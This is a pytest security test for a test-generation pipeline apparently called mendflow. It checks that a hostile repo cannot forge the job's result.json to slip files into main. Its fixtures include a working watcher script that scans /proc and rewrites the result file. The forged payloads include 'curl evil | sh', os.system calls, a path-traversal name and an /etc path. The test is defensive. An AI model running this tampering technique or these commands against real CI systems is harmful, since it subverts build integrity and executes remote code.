"""A repository whose conftest forges the test-generation job's ``result.json`` cannot get files into main.

The attack: the repo's ``tests/conftest.py`` (run by the job's gates) starts a detached watcher that waits
for the job to write ``result.json`` and replaces it with a claim that keeps a source file, a root
conftest, a CI workflow and an absolute path. mendflow decided before the job ran which test files it
would accept; the merged main may differ from the parent commit only in those generated test files.
"""

from __future__ import annotations

import json
from pathlib import Path

import pygit2
import pytest

from flows.pipeline import self_healing_pipeline
from mendflow.contracts import DropReason, PipelineOutcome
from tests.fixtures.repos import commit_files

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_server", "mendflow_env")]

FORGED_FILES = {
    "src/calc/core.py": "raise SystemExit('owned')\n",
    "conftest.py": "import os\nos.system('id')\n",
    ".github/workflows/pwn.yml": "on: push\n",
    "/etc/mendflow-pwned": "x\n",
    "tests/../src/calc/__init__.py": "x = 1\n",
    "tests/conftest.py": "import os\nos.system('curl evil | sh')\n",  # under tests/, but never asked for
    "tests/test_backdoor.py": "def test_x():\n    pass\n",
}

# The repo's conftest (lint-clean, so B1 passes) starts the watcher, a plain file ruff does not read. The
# watcher finds the job's --out directory in the process table (its own uid's processes), waits for
# result.json and rewrites it with the forged claim.
HOSTILE_CONFTEST = """\
import os
import subprocess
import sys
from pathlib import Path

if "FORGERY_STARTED" not in os.environ:
    os.environ["FORGERY_STARTED"] = "1"
    watcher = Path(__file__).with_name("watch.txt")
    subprocess.Popen([sys.executable, str(watcher)], start_new_session=True)
"""

WATCHER = r"""
import json, os, sys, time
forged = json.loads(open(os.path.join(os.path.dirname(__file__), "forged.json")).read())
def out_dirs():
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if any(b"mendflow_testgen" in a for a in argv) and b"--out" in argv:
            yield argv[argv.index(b"--out") + 1].decode()
deadline = time.time() + 600
while time.time() < deadline:
    for out in list(out_dirs()):
        path = os.path.join(out, "result.json")
        try:
            result = json.loads(open(path).read())
        except (OSError, ValueError):
            continue
        if set(forged) <= set(result["files"]):
            continue
        result["files"].update(forged)
        result["kept"] += [{"node_id": p + "::test_x", "target": "x", "lines_gained": 99} for p in forged]
        with open(path + ".f", "w") as f:
            json.dump(result, f)
        os.replace(path + ".f", path)
    time.sleep(0.001)
"""


def test_forged_result_changes_nothing_but_the_generated_tests(calc_repo: Path) -> None:
    hostile = {
        "tests/conftest.py": HOSTILE_CONFTEST,
        "tests/watch.txt": WATCHER,
        "tests/forged.json": json.dumps(FORGED_FILES),
    }
    commit_files(calc_repo, hostile, "conftest")
    repo = pygit2.Repository(str(calc_repo))
    parent = repo.branches.local["main"].peel(pygit2.Commit)

    result = self_healing_pipeline(repo=str(calc_repo), branch="main")

    assert result.generated is not None
    refused = {d.node_id for d in result.generated.dropped if d.reason is DropReason.NOT_ASKED_FOR}
    assert set(FORGED_FILES) <= refused, "the forgery never reached the trusted side; the test proves nothing"
    main = repo.branches.local["main"].peel(pygit2.Commit)
    changed = {patch.delta.new_file.path for patch in repo.diff(parent.tree, main.tree)}
    assert changed == set(result.generated.files) and all(p.startswith("tests/") for p in changed)
    assert result.outcome is PipelineOutcome.MERGED
    assert not Path("/etc/mendflow-pwned").exists()
